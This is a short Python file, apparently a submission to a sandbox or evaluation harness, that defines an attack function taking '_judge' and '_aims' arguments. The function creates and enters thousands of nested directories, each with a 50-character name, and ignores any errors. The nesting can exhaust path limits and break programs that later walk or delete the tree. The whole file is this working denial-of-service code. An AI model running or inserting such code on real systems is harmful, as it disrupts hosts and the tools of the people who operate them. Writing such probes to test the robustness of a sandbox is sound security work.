import os


def attack(_judge, _aims):
    try:
        for _ in range(5000):
            os.mkdir("d" * 50)
            os.chdir("d" * 50)
    except OSError:
        pass
